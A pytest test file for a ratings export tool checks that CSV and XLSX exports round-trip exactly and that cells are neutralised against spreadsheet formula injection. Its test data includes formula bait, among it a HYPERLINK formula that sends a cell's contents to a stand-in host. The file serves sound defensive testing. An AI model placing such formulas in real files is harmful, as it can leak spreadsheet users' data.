"""Exporting ratings (contracts sections 4-5): csv/xlsx exports re-import to the same data; no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import create_engine, text
from sqlalchemy.engine import make_url

from toolkit.capture.ratings_export import export_frame, write_export
from toolkit.capture.ratings_import import import_ratings, import_table, read_table, validate
from toolkit.capture.validate import COLUMNS
from toolkit.capture.write import record_rating
from toolkit.core.text import FORMULA_TRIGGERS, neutralise, restore
from toolkit.store.areas import get_or_create_area, get_or_create_cycle
from toolkit.store.db import make_engine, session_scope, upgrade
from toolkit.store.ratings import upsert_respondent
from toolkit.training.demo import generate_ratings

ROOT = Path(__file__).resolve().parent.parent
PG_URL = os.environ.get("TOOLKIT_TEST_DATABASE_URL", "")
CYCLE = "2026"

# Comments people really type, and ones crafted to run as formulas when a spreadsheet opens the export.
TRICKY = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+44 7700 900123",
    "-5 points since last year",
    "@SUM(A1:A9)",
    "\tindented with a tab",
    "\rstarts with a carriage return",
    "'my own apostrophe",
    "'=already apostrophed",
    "''",
    "'",
    "  padded  ",
    "line one\r\nline two",
    "line one\nline two",
    "Café, “quotes”, naïve – £5",
    'a "quoted" word, and a comma',
    "3",
    "",
]
TRICKY_RESPONDENTS = ["-anon-7", "@team", "+r8"]


# ---- fixtures ---------------------------------------------------------------------------------------


@pytest.fixture
def fresh(tmp_path):
    """A second, empty, migrated database (SQLite file, or a new PostgreSQL database): (url, engine)."""
    if PG_URL:
        name = f"toolkit_fresh_{uuid.uuid4().hex[:10]}"
        admin = create_engine(PG_URL, isolation_level="AUTOCOMMIT")
        with admin.connect() as c:
            c.execute(text(f'CREATE DATABASE "{name}"'))
        url = make_url(PG_URL).set(database=name).render_as_string(hide_password=False)
    else:
        url = f"sqlite:///{tmp_path / 'fresh.db'}"
    engine = make_engine(url)
    upgrade(engine)
    yield url, engine
    engine.dispose()
    if PG_URL:
        with admin.connect() as c:
            c.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


@pytest.fixture
def area(engine, catalogue) -> str:
    """Two fictional demo areas over two cycles, plus a respondent whose comments are formula bait."""
    df, _stories = generate_ratings(catalogue, areas=2, respondents=5)
    table = df.astype({"score": "string"}).fillna({"score": ""})
    name = str(df["area"].iloc[0])
    items = [(fw.id, it.id) for fw in catalogue.rated for it in fw.items]
    assert len(items) >= len(TRICKY)
    with session_scope(engine) as s:
        import_table(table, "demo", session=s, catalogue=catalogue)
        cycle = get_or_create_cycle(get_or_create_area(name, session=s), CYCLE, session=s)
        for k, pseudonym in enumerate(TRICKY_RESPONDENTS):
            person = upsert_respondent(cycle, pseudonym, "education", "frontline", session=s)
            for j, comment in enumerate(TRICKY):
                fw, item = items[j]
                score = None if j % 5 == k else 1 + (j + k) % 5
                record_rating(person, fw, item, score, comment, session=s)
    return name


def frame(engine, area: str, cycle: str | None = None) -> pd.DataFrame:
    with session_scope(engine) as s:
        df = export_frame(area, cycle, session=s)
    return df.sort_values(["cycle", "respondent", "framework", "item"]).reset_index(drop=True)


def run_cli(db_url: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "DATABASE_URL": db_url, "PYTHONPATH": str(ROOT)}
    env.pop("TOOLKIT_DEBUG", None)
    return subprocess.run(
        [sys.executable, "-m", "toolkit", *args], env=env, cwd=ROOT, capture_output=True, text=True, timeout=120
    )


def raw_cells(path: Path) -> list[list[object]]:
    """Every cell of an exported file as stored in it (no apostrophe removed, nothing evaluated)."""
    if path.suffix == ".csv":
        return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    ws = load_workbook(path).worksheets[0]
    assert all(c.data_type != "f" for r in ws.iter_rows() for c in r), "a cell was written as a formula"
    return [[c.value for c in r] for r in ws.iter_rows()]


# ---- round trips ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_reimports_into_a_fresh_database_to_identical_data(fmt, engine, catalogue, area, fresh, tmp_path):
    original = frame(engine, area)
    assert len(original) > 1000 and original["score"].isna().any() and set(TRICKY) <= set(original["comment"])
    path = tmp_path / f"export.{fmt}"
    write_export(frame(engine, area), fmt, path)
    _url, fresh_engine = fresh
    with session_scope(fresh_engine) as s:
        result = import_ratings(path.read_bytes(), path.name, session=s, catalogue=catalogue)
    assert (result.rows, result.inserted) == (len(original), len(original))
    pd.testing.assert_frame_equal(frame(fresh_engine, area), original)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_then_cli_import_elsewhere_gives_the_same_data(fmt, db_url, engine, area, fresh, tmp_path):
    path = tmp_path / f"{area}.{fmt}"
    done = run_cli(db_url, "export", "--area", area, "--format", fmt, "-o", str(path))
    assert done.returncode == 0, done.stderr
    original = frame(engine, area)
    assert f"Exported {len(original)} ratings" in done.stdout
    fresh_url, fresh_engine = fresh
    done = run_cli(fresh_url, "import", str(path))
    assert done.returncode == 0, done.stderr
    assert f"{len(original)} new ratings" in done.stdout
    pd.testing.assert_frame_equal(frame(fresh_engine, area), original)
    again = run_cli(fresh_url, "import", str(path))  # the same file twice changes nothing
    assert again.returncode == 0 and f"{len(original)} already present" in again.stdout
    pd.testing.assert_frame_equal(frame(fresh_engine, area), original)


def test_cli_json_export_holds_the_stored_values(db_url, engine, area, tmp_path):
    path = tmp_path / "export.json"
    done = run_cli(db_url, "export", "--area", area, "--cycle", CYCLE, "--format", "json", "-o", str(path))
    assert done.returncode == 0, done.stderr
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["columns"] == COLUMNS
    want = frame(engine, area, CYCLE)
    stored = [{**r, "score": None if pd.isna(r["score"]) else int(r["score"])} for r in want.to_dict("records")]

    def key(r: dict) -> tuple:
        return r["cycle"], r["respondent"], r["framework"], r["item"]

    assert sorted(doc["ratings"], key=key) == sorted(stored, key=key)
    assert {r["cycle"] for r in doc["ratings"]} == {CYCLE}
    assert any(r["score"] is None for r in doc["ratings"])  # don't know is null, not a number or ""
    assert set(TRICKY) <= {r["comment"] for r in doc["ratings"]}  # JSON is data: text exactly as stored


def test_cli_export_of_one_cycle(db_url, engine, area, tmp_path):
    path = tmp_path / "one.csv"
    done = run_cli(db_url, "export", "--area", area, "--cycle", "2025", "--format", "csv", "-o", str(path))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    assert len(rows) == len(frame(engine, area, "2025")) > 0
    assert {r["cycle"] for r in rows} == {"2025"}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--area", "Nowhere", "--format", "csv"], "No area called 'Nowhere'"),
        (["--cycle", "1999", "--format", "csv"], "has no cycle '1999'"),
        (["--format", "csv", "-o", "/no/such/folder/x.csv"], "no such folder"),
    ],
    ids=["unknown-area", "unknown-cycle", "missing-folder"],
)
def test_cli_export_mistakes_are_explained(args, message, db_url, area, tmp_path):
    if "--area" not in args:
        args = ["--area", area, *args]
    if "-o" not in args:
        args = [*args, "-o", str(tmp_path / "x.csv")]
    done = run_cli(db_url, "export", *args)
    assert done.returncode == 1
    assert message in done.stderr and "Traceback" not in done.stderr
    assert not list(tmp_path.glob("x.csv*"))  # no file, not even a half-written one


# ---- formula injection ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_exported_cell_starts_with_a_formula_trigger(fmt, engine, catalogue, area, fresh, tmp_path):
    path = tmp_path / f"export.{fmt}"
    write_export(frame(engine, area, CYCLE), fmt, path)
    cells = raw_cells(path)
    texts = [c for r in cells for c in r if isinstance(c, str) and c]
    bad = [c for c in texts if c.startswith(FORMULA_TRIGGERS)]
    assert not bad, bad[:5]
    # The bait is there, defused by a leading apostrophe.
    assert {"'=1+1", "'+44 7700 900123", "'-5 points since last year", "'@SUM(A1:A9)", "'\tindented with a tab"} <= set(
        texts
    )
    assert {"'-anon-7", "'@team", "'+r8"} <= set(texts)
    assert "''my own apostrophe" not in texts and "'my own apostrophe" in texts  # plain text is left alone
    # ... and reads back as the original text.
    _url, fresh_engine = fresh
    with session_scope(fresh_engine) as s:
        import_ratings(path.read_bytes(), path.name, session=s, catalogue=catalogue)
    back = frame(fresh_engine, area, CYCLE)
    assert set(TRICKY) <= set(back["comment"]) and set(TRICKY_RESPONDENTS) <= set(back["respondent"])
    pd.testing.assert_frame_equal(back, frame(engine, area, CYCLE))


TRIGGER_PREFIXES = st.sampled_from(["", *FORMULA_TRIGGERS, "'", "''", "'=", "'\t", "' "])


@given(prefix=TRIGGER_PREFIXES, rest=st.text())
def test_neutralise_is_reversible_and_never_starts_a_formula(prefix, rest):
    s = prefix + rest
    safe = neutralise(s)
    assert restore(safe) == s
    assert not safe.startswith(FORMULA_TRIGGERS)
    if not s.startswith((*FORMULA_TRIGGERS, "'")):
        assert safe == s  # ordinary text is written as it is


# Text a ratings file can carry: no surrogates, no control characters other than tab and line breaks.
COMMENT_TEXT = st.text(
    st.characters(
        exclude_categories=("Cs",), exclude_characters="".join(map(chr, [*range(0, 9), 11, 12, *range(14, 32)]))
    ),
    max_size=60,
)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(prefix=TRIGGER_PREFIXES, comment=COMMENT_TEXT)
def test_any_comment_survives_an_export_file(fmt, prefix, comment, catalogue, tmp_path):
    """File level, no database: whatever text a comment holds, the exported file reads back to it."""
    comment = prefix + comment
    fw = catalogue.get("opm")
    df = pd.DataFrame(
        [["A", CYCLE, "r1", "police", "frontline", fw.id, fw.items[0].id, None, comment]], columns=COLUMNS
    )
    df["score"] = df["score"].astype("Int64")
    path = tmp_path / f"prop.{fmt}"
    write_export(df, fmt, path)
    table, _encoding = read_table(path.read_bytes(), path.name)
    clean, errors = validate(table, catalogue)
    assert errors == []
    assert clean["comment"].tolist() == [comment]
    assert clean["score"].isna().all()
